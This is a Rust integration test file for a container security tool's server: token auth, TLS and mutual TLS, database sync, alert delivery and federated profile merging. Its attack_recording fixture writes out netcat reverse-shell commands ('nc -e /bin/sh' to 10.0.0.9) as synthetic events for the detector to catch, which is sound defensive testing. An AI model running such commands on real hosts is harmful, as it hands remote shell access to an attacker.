//! `kestrel server` as a user runs it: the real binary on a loopback port, zero configuration (SQLite in the
//! data directory, an admin token made on first start), a token file from `kestrel server token`, a CI scan
//! sending its report with `--server`, and a clean stop on SIGTERM.

use assert_cmd::cargo::CommandCargoExt;
use kestrel_testkit::services::free_port;
use kestrel_testkit::{Entry, Image};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

mod common;
use common::get;

struct Running {
    child: Child,
    base: String,
}

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn start(data: &Path, extra: &[&str]) -> Running {
    let port = free_port();
    let child = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["server", "--listen", &format!("127.0.0.1:{port}"), "--data-dir"])
        .arg(data)
        .args(extra)
        .env_remove("KESTREL_SERVER_TOKEN")
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let base = format!("http://127.0.0.1:{port}");
    let t = Instant::now();
    while ureq::get(format!("{base}/healthz")).call().is_err() {
        assert!(t.elapsed() < Duration::from_secs(20), "the server did not come up");
        std::thread::sleep(Duration::from_millis(50));
    }
    Running { child, base }
}

fn image(dir: &Path) -> std::path::PathBuf {
    let p = dir.join("app.tar");
    Image::new(vec![vec![
        Entry::File("etc/os-release".into(), b"ID=debian\nVERSION_ID=\"12\"\n".to_vec()),
        Entry::File(
            "var/lib/dpkg/status".into(),
            b"Package: zlib1g\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1:1.2.13.dfsg-1\n\n"
                .to_vec(),
        ),
    ]])
    .write_docker_archive(&p, &["shop/web:1.2"]);
    p
}

fn scan(img: &Path, server: &str, token: &str) -> std::process::Output {
    Command::cargo_bin("kestrel")
        .unwrap()
        .args(["image", "--input"])
        .arg(img)
        .args(["--scanners", "none", "-f", "json", "-o", "/dev/null", "--server", server, "--server-token", token])
        .env("KESTREL_CACHE_DIR", img.parent().unwrap().join("cache"))
        .output()
        .unwrap()
}

/// The server keeps its vulnerability database up to date itself (`--db-update-every`, here from a mirror), and
/// a CI job or a node fetches it with `kestrel db update --server`: transferred once, then only asked after.
#[test]
fn the_server_updates_its_database_and_clients_fetch_it() {
    let dir = tempfile::tempdir().unwrap();
    let fixtures = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../kestrel-vulndb/tests/fixtures/db");
    let mirror = common::serve_files(
        vec![("/PyPI/all.zip".to_string(), std::fs::read(fixtures.join("osv-PyPI.zip")).unwrap())],
        vec![],
        1,
    );
    let data = dir.path().join("data");
    let flags = ["--db-update-every", "1", "--db-base-url", &mirror, "--db-ecosystem", "pypi", "--db-kev-url", ""];
    let server = start(&data, &flags);
    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
    // The first update runs at start (there is no database yet).
    let t = Instant::now();
    loop {
        let resp = ureq::get(format!("{}/api/v1/vulndb", server.base))
            .header("Authorization", format!("Bearer {admin}"))
            .config()
            .http_status_as_error(false)
            .build()
            .call()
            .unwrap();
        if resp.status() == 200 {
            break;
        }
        assert_eq!(resp.status(), 404, "before the first update");
        assert!(t.elapsed() < Duration::from_secs(30), "no database after 30 s");
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(data.join("db/vulndb.sqlite").is_file());
    let fetch = || {
        let out = Command::cargo_bin("kestrel")
            .unwrap()
            .args(["db", "update", "--server", &server.base, "--server-token", &admin, "--db-dir"])
            .arg(dir.path().join("ci-db"))
            .output()
            .unwrap();
        let e = String::from_utf8_lossy(&out.stderr).to_string();
        assert!(out.status.success(), "{e}");
        e
    };
    let e = fetch();
    assert!(e.contains(&format!("database from {}", server.base)), "{e}");
    let status = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["db", "status", "-f", "json", "--db-dir"])
        .arg(dir.path().join("ci-db"))
        .output()
        .unwrap();
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    assert_eq!(status["sources"][0]["name"], "osv:PyPI", "{status}");
    assert_eq!(status["sources"][0]["location"], format!("{mirror}/PyPI/all.zip"));
    assert_eq!(status["sources"][0]["records"], 32);
    assert!(fetch().contains("is the server's already"));
    // A fetch from a server that refuses says why, and the database here stays.
    let out = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["db", "update", "--server", &server.base, "--server-token", "wrong", "--db-dir"])
        .arg(dir.path().join("ci-db"))
        .output()
        .unwrap();
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success() && e.contains("401") && e.contains("is unchanged"), "{e}");
    assert!(dir.path().join("ci-db/vulndb.sqlite").is_file());
}

/// `kestrel server cert` for 127.0.0.1 (and `clients`) into DIR/certs, and the server on HTTPS with that
/// certificate (`extra` added, `CERTS` in it naming that directory: `--client-ca CERTS/ca.crt` for mutual TLS);
/// the running server, its base URL and its admin token.
fn start_https(dir: &Path, clients: &[&str], extra: &[&str]) -> (Running, String, String) {
    let certs = dir.join("certs");
    let made = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["server", "cert", "--name", "127.0.0.1"])
        .args(clients.iter().flat_map(|c| ["--client", c]))
        .arg("--out")
        .arg(&certs)
        .output()
        .unwrap();
    assert!(made.status.success(), "{}", String::from_utf8_lossy(&made.stderr));
    let c = |n: &str| certs.join(n).display().to_string();
    let data = dir.join("data");
    let port = free_port();
    let child = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["server", "--listen", &format!("127.0.0.1:{port}"), "--data-dir"])
        .arg(&data)
        .args(["--tls-cert", &c("server.crt"), "--tls-key", &c("server.key")])
        .args(extra.iter().map(|e| e.replace("CERTS", &certs.display().to_string())))
        .env_remove("KESTREL_SERVER_TOKEN")
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let base = format!("https://127.0.0.1:{port}");
    let t = Instant::now();
    while std::net::TcpStream::connect(("127.0.0.1", port)).is_err() || !data.join("admin.token").exists() {
        assert!(t.elapsed() < Duration::from_secs(20), "the server did not come up");
        std::thread::sleep(Duration::from_millis(50));
    }
    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
    (Running { child, base: base.clone() }, base, admin)
}

/// A server on HTTPS with a private CA: the scans' reports and the database's push and fetch trust it with
/// `--server-ca`, and without it refuse the server's certificate.
#[test]
fn reports_and_the_database_over_https_with_a_private_ca() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (_server, base, admin) = start_https(d, &[], &[]);
    let c = |n: &str| d.join("certs").join(n).display().to_string();
    let kestrel = |args: &[&str], ca: bool| {
        let mut cmd = Command::cargo_bin("kestrel").unwrap();
        cmd.args(args).args(["--server", &base, "--server-token", &admin]);
        if ca {
            cmd.args(["--server-ca", &c("ca.crt")]);
        }
        let out = cmd.env("KESTREL_CACHE_DIR", d.join("cache")).env_remove("KESTREL_SERVER_CA").output().unwrap();
        (out.status.success(), String::from_utf8_lossy(&out.stderr).to_string())
    };
    let img = image(d);
    let scan = ["image", "--input", img.to_str().unwrap(), "--scanners", "none", "-f", "json", "-o", "/dev/null"];
    let (ok, e) = kestrel(&scan, false);
    assert!(!ok && e.to_lowercase().contains("certificate"), "the Web PKI does not know the private CA: {e}");
    let (ok, e) = kestrel(&scan, true);
    assert!(ok && e.contains("sent to https://"), "{e}");

    let fixtures = std::path::PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../kestrel-vulndb/tests/fixtures/db");
    let admin_db = d.join("admin-db");
    let imported = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["db", "import", "--db-dir"])
        .arg(&admin_db)
        .arg(fixtures.join("DSA.list"))
        .output()
        .unwrap();
    assert!(imported.status.success());
    let admin_dir = admin_db.to_string_lossy().into_owned();
    let (ok, e) = kestrel(&["db", "push", "--db-dir", &admin_dir], false);
    assert!(!ok && e.to_lowercase().contains("certificate"), "{e}");
    let (ok, e) = kestrel(&["db", "push", "--db-dir", &admin_dir], true);
    assert!(ok && e.contains("now serves this database"), "{e}");
    let node_dir = d.join("node-db").to_string_lossy().into_owned();
    let (ok, e) = kestrel(&["db", "update", "--db-dir", &node_dir], false);
    assert!(!ok && e.to_lowercase().contains("certificate"), "{e}");
    let (ok, e) = kestrel(&["db", "update", "--db-dir", &node_dir], true);
    assert!(ok && e.contains(&format!("database from {base}")), "{e}");
    assert_eq!(
        std::fs::read(d.join("node-db/vulndb.sqlite")).unwrap(),
        std::fs::read(admin_db.join("vulndb.sqlite")).unwrap()
    );
    // A merged profile pulled from it: no node sent one, and the server says so once the CA is trusted.
    let profiles = d.join("profiles").to_string_lossy().into_owned();
    let (ok, e) = kestrel(&["profile", "pull", "shop/web", "--profiles", &profiles], false);
    assert!(!ok && e.to_lowercase().contains("certificate"), "{e}");
    let (ok, e) = kestrel(&["profile", "pull", "shop/web", "--profiles", &profiles], true);
    assert!(!ok && !e.to_lowercase().contains("certificate") && e.contains("404"), "{e}");
}

#[test]
fn zero_configuration_then_a_ci_scan_sends_its_report() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let mut server = start(&data, &[]);
    // The admin token was made, readable by its owner only.
    let token_file = data.join("admin.token");
    let admin = std::fs::read_to_string(&token_file).unwrap().trim().to_string();
    use std::os::unix::fs::PermissionsExt;
    assert_eq!(std::fs::metadata(&token_file).unwrap().permissions().mode() & 0o777, 0o600);
    assert!(data.join("server.db").exists(), "SQLite in the data directory");

    let img = image(dir.path());
    let out = scan(&img, &server.base, &admin);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("sent to"), "{}", String::from_utf8_lossy(&out.stderr));
    let reports = get(&server.base, "/api/v1/reports", &admin);
    assert_eq!(reports["items"][0]["subject"], "shop/web:1.2");
    assert_eq!(reports["items"][0]["kind"], "sbom");
    let id = reports["items"][0]["id"].as_str().unwrap();
    let body = get(&server.base, &format!("/api/v1/reports/{id}"), &admin);
    assert_eq!(body["packages"][0]["name"], "zlib1g");

    // A wrong token: the scan says so and fails (its report was still written where -o said).
    let out = scan(&img, &server.base, "kst_wrong");
    assert_eq!(out.status.code(), Some(2));
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("401: unknown token"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // SIGTERM: a clean stop.
    // SAFETY: kill(2) on our own child.
    unsafe { libc::kill(server.child.id() as i32, libc::SIGTERM) };
    let status = server.child.wait().unwrap();
    assert!(status.success(), "{status:?}");
    // The same data directory again: the same admin token, the report still there.
    let again = start(&data, &[]);
    assert_eq!(get(&again.base, "/api/v1/reports", &admin)["items"].as_array().unwrap().len(), 1);
}

#[test]
fn tokens_from_the_token_command_and_roles() {
    let dir = tempfile::tempdir().unwrap();
    let mut file = String::from("tokens:\n");
    let mut tokens = Vec::new();
    for (role, name) in [("ci", "gitlab"), ("viewer", "alice")] {
        let out = Command::cargo_bin("kestrel")
            .unwrap()
            .args(["server", "token", "--role", role, "--name", name])
            .output()
            .unwrap();
        assert!(out.status.success());
        tokens.push(String::from_utf8(out.stdout).unwrap().trim().to_string());
        let stderr = String::from_utf8(out.stderr).unwrap();
        let entry: String =
            stderr.lines().filter(|l| l.starts_with("- ") || l.starts_with("  ")).map(|l| format!("{l}\n")).collect();
        assert!(!entry.contains(&tokens.last().unwrap()[4..]), "the entry holds the digest, not the token");
        file.push_str(&entry);
    }
    let tokens_path = dir.path().join("tokens.yaml");
    std::fs::write(&tokens_path, &file).unwrap();
    let data = dir.path().join("data");
    let server = start(&data, &["--tokens", tokens_path.to_str().unwrap()]);
    assert!(!data.join("admin.token").exists(), "with a token file, no admin token is made");
    let img = image(dir.path());
    let out = scan(&img, &server.base, &tokens[0]);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    // The viewer reads but may not send.
    assert_eq!(get(&server.base, "/api/v1/reports", &tokens[1])["items"][0]["source"], "gitlab");
    let out = scan(&img, &server.base, &tokens[1]);
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("403"), "{}", String::from_utf8_lossy(&out.stderr));
}

#[test]
fn a_bad_token_file_is_a_clear_error() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("tokens.yaml");
    std::fs::write(&p, "tokens:\n  - {name: x, role: agent, sha256: 1234}\n").unwrap();
    let out = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["server", "--listen", "127.0.0.1:0", "--tokens"])
        .arg(&p)
        .arg("--data-dir")
        .arg(dir.path())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let e = String::from_utf8_lossy(&out.stderr);
    assert!(e.contains("tokens.yaml") && e.contains("64 hex digits"), "{e}");
}

/// The image id of the container in [`attack_recording`].
const WEB_ID: &str = "sha256:5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e5e";

/// A recording of a container running a reverse shell through nc (what the built-in rules catch).
fn attack_recording(dir: &Path) -> std::path::PathBuf {
    let rec = dir.join("attack.jsonl");
    let mut lines = vec![serde_json::json!({"schema": "kestrel.trace/v1", "started_ns": 1_000_000_000u64}).to_string()];
    for (i, argv) in
        [["/bin/nc", "-e", "/bin/sh", "10.0.0.9", "4444"], ["/bin/nc", "-e", "/bin/bash", "10.0.0.9", "4445"]]
            .iter()
            .enumerate()
    {
        lines.push(
            serde_json::json!({"schema": "kestrel.event/v1", "time_ns": 2_000_000_000u64 + i as u64, "pid": 100 + i, "tid": 100 + i,
                "comm": "nc", "cgroup_id": 1, "container": {"id": "web-1", "runtime": "runc", "image": "shop/web:1", "image_id": WEB_ID},
                "kind": "exec", "ppid": 1,
                "parent_comm": "sh", "uid": 0, "gid": 0, "euid": 0, "exe": argv[0], "argv": argv, "cap_effective": 0})
            .to_string(),
        );
    }
    std::fs::write(&rec, lines.join("\n") + "\n").unwrap();
    rec
}

/// Runs `kestrel detect` on `rec` with `shipping` (where and as which node to send), a spool in `dir`; checks
/// that every alert it printed was reported delivered, and returns how many it printed.
fn detect_shipping(dir: &Path, rec: &Path, shipping: &[&str]) -> usize {
    let out = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["detect", "-f", "json", "--no-profiles"])
        .args(shipping)
        .arg("--spool")
        .arg(dir.join("spool"))
        .arg(rec)
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    let printed = String::from_utf8_lossy(&out.stdout).lines().count();
    assert!(stderr.contains(&format!("server: {printed} delivered")), "{stderr}");
    printed
}

#[test]
fn detect_sends_its_alerts_to_the_server() {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = start(&data, &[]);
    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
    let rec = attack_recording(dir.path());
    let printed =
        detect_shipping(dir.path(), &rec, &["--server", &server.base, "--server-token", &admin, "--node", "node-7"]);
    assert!(printed >= 2, "{printed} alerts printed");
    let page = get(&server.base, "/api/v1/alerts?node=node-7", &admin);
    let stored = page["items"].as_array().unwrap();
    assert_eq!(stored.len(), printed, "every printed alert is on the server");
    assert!(stored.iter().all(|a| a["node"] == "node-7" && a["alert"]["schema"] == "kestrel.alert/v1"));
}

#[test]
fn detect_publishes_to_nats_and_the_server_consumes() {
    let nats = kestrel_testkit::services::Nats::start();
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = start(&data, &["--nats", &nats.url()]);
    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
    let rec = attack_recording(dir.path());
    let printed = detect_shipping(dir.path(), &rec, &["--nats", &nats.url(), "--node", "node-8"]);
    let t = Instant::now();
    loop {
        let page = get(&server.base, "/api/v1/alerts?node=node-8", &admin);
        if page["items"].as_array().unwrap().len() == printed {
            break;
        }
        assert!(t.elapsed() < Duration::from_secs(30), "the server did not store them: {page}");
        std::thread::sleep(Duration::from_millis(100));
    }
    // The node's status came over the bus too: the image it runs, with its id (a running image that becomes
    // vulnerable is known for agents that ship through NATS as for those that post).
    let node = loop {
        let nodes = get(&server.base, "/api/v1/nodes", &admin);
        let node = nodes["items"].as_array().unwrap().iter().find(|n| n["name"] == "node-8").cloned();
        match node {
            Some(n) if n["status"]["images"].is_array() => break n,
            _ if t.elapsed() < Duration::from_secs(30) => std::thread::sleep(Duration::from_millis(100)),
            n => panic!("no status of node-8 came over the bus: {n:?}"),
        }
    };
    assert_eq!(node["status"]["images"], serde_json::json!(["shop/web:1"]), "{node}");
    assert_eq!(node["status"]["image_refs"], serde_json::json!([{"image": "shop/web:1", "digest": WEB_ID}]), "{node}");
    assert!(node["status"]["delivered"].as_u64().is_some(), "{node}");
}

/// Federated learning through the server: two nodes learn the same workload from what they each saw, send
/// their profiles (never events) with `detect --server`, and a node pulls the merge — in which only what both
/// nodes trust is trusted, so one node alone (a poisoned one, say) teaches nothing.
#[test]
fn profiles_are_merged_on_the_server_and_pulled_back() {
    use kestrel_detect::profile::{Profile, View};
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    let server = start(&data, &[]);
    let admin = std::fs::read_to_string(data.join("admin.token")).unwrap().trim().to_string();
    let event = |t: u64, c: &str, extra: serde_json::Value| {
        let mut e = serde_json::json!({"schema": "kestrel.event/v1", "time_ns": t, "pid": 10, "tid": 10, "comm": "nginx",
            "cgroup_id": 1, "container": {"id": c, "runtime": "runc"}});
        e.as_object_mut().unwrap().extend(extra.as_object().unwrap().clone());
        e.to_string()
    };
    let exec = serde_json::json!({"kind": "exec", "ppid": 1, "uid": 0, "gid": 0, "euid": 0, "exe": "/usr/sbin/nginx",
        "argv": ["nginx"], "cap_effective": 0});
    let seen = [
        ("node-a", serde_json::json!({"kind": "open", "path": "/etc/nginx/nginx.conf", "flags": 0})),
        ("node-b", serde_json::json!({"kind": "open", "path": "/tmp/dropper", "flags": 577})),
    ];
    for (node, extra) in &seen {
        let rec = dir.path().join(format!("{node}.jsonl"));
        let mut lines = vec![serde_json::json!({"schema": "kestrel.trace/v1", "started_ns": 1u64}).to_string()];
        for (i, c) in ["c1", "c2"].iter().enumerate() {
            lines.push(event(2_000 + i as u64, c, exec.clone()));
            lines.push(event(3_000 + i as u64, c, extra.clone()));
        }
        std::fs::write(&rec, lines.join("\n") + "\n").unwrap();
        let profiles = dir.path().join(format!("profiles-{node}"));
        let out = Command::cargo_bin("kestrel")
            .unwrap()
            .args(["learn", "-q", "--workload", "web", "--mode", "monitor", "--profiles"])
            .arg(&profiles)
            .arg(&rec)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        let out = Command::cargo_bin("kestrel")
            .unwrap()
            .args(["detect", "-q", "--save", "--workload", "web", "--profiles"])
            .arg(&profiles)
            .args(["--server", &server.base, "--server-token", &admin, "--node", node, "--spool"])
            .arg(dir.path().join(format!("spool-{node}")))
            .arg(&rec)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    }
    let stored = get(&server.base, "/api/v1/profiles/web", &admin);
    assert_eq!(stored["items"].as_array().unwrap().len(), 2, "each node sent its profile");
    let pulled = dir.path().join("pulled");
    let out = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["profile", "pull", "web", "-k", "2", "--server", &server.base, "--server-token", &admin, "--profiles"])
        .arg(&pulled)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("merged from 2 nodes"));
    let current =
        std::fs::read_dir(&pulled).unwrap().flatten().find(|e| !e.file_name().to_string_lossy().contains(".v"));
    let mut merged: Profile = serde_json::from_slice(&std::fs::read(current.unwrap().path()).unwrap()).unwrap();
    merged.reindex();
    let process: Vec<&str> =
        merged.behaviours.iter().filter(|b| b.view == View::Process).map(|b| b.key.as_str()).collect();
    let nginx = process.iter().find(|k| k.contains("/usr/sbin/nginx")).expect("nginx's exec learned");
    assert!(merged.knows(View::Process, nginx), "both nodes saw nginx start");
    for b in merged.behaviours.iter().filter(|b| b.view == View::File) {
        assert!(!merged.knows(View::File, &b.key), "{} was seen on one node only", b.key);
    }
    // With k = 1 each node's file behaviour is trusted: what k = 2 left out was there to leave out.
    let loose = dir.path().join("pulled-k1");
    let out = Command::cargo_bin("kestrel")
        .unwrap()
        .args(["profile", "pull", "web", "-k", "1", "--server", &server.base, "--server-token", &admin, "--profiles"])
        .arg(&loose)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let current =
        std::fs::read_dir(&loose).unwrap().flatten().find(|e| !e.file_name().to_string_lossy().contains(".v"));
    let mut k1: Profile = serde_json::from_slice(&std::fs::read(current.unwrap().path()).unwrap()).unwrap();
    k1.reindex();
    let files: Vec<String> = k1.behaviours.iter().filter(|b| b.view == View::File).map(|b| b.key.clone()).collect();
    assert!(
        files.iter().any(|k| k.contains("/etc/nginx/nginx.conf")) && files.iter().any(|k| k.contains("/tmp")),
        "{files:?}"
    );
    assert!(files.iter().all(|k| k1.knows(View::File, k)));
}

/// HTTPS with mutual TLS: certificates from `kestrel server cert`, a server requiring client certificates, an
/// agent with its node's certificate delivering, the same agent without it delivering nothing (spooled), and
/// a client without a certificate refused at the handshake.
#[test]
fn agents_over_mutual_tls() {
    let dir = tempfile::tempdir().unwrap();
    let (_server, base, admin) = start_https(dir.path(), &["node-9"], &["--client-ca", "CERTS/ca.crt"]);
    let certs = dir.path().join("certs");
    let c = |n: &str| certs.join(n).display().to_string();
    let rec = attack_recording(dir.path());
    let ship = |extra: &[&str], spool: &str| {
        let out = Command::cargo_bin("kestrel")
            .unwrap()
            .args([
                "detect",
                "-f",
                "json",
                "--no-profiles",
                "--server",
                &base,
                "--server-token",
                &admin,
                "--node",
                "node-9",
            ])
            .args(["--server-ca", &c("ca.crt")])
            .args(extra)
            .arg("--spool")
            .arg(dir.path().join(spool))
            .arg(&rec)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
        String::from_utf8_lossy(&out.stderr).to_string()
    };
    let e = ship(&["--client-cert", &c("node-9.crt"), "--client-key", &c("node-9.key")], "spool-a");
    assert!(e.contains("server: 2 delivered"), "{e}");
    let e = ship(&[], "spool-b");
    assert!(e.contains("server: 0 delivered") && e.contains("2 in the spool"), "without a certificate: {e}");
    // A client with the CA but no certificate: the handshake fails.
    let ca = std::fs::read(certs.join("ca.crt")).unwrap();
    let tls = ureq::tls::TlsConfig::builder()
        .root_certs(ureq::tls::RootCerts::new_with_certs(&[ureq::tls::Certificate::from_pem(&ca).unwrap().to_owned()]))
        .build();
    let agent: ureq::Agent = ureq::Agent::config_builder().tls_config(tls).build().into();
    assert!(agent.get(format!("{base}/healthz")).call().is_err(), "no certificate, no connection");
}
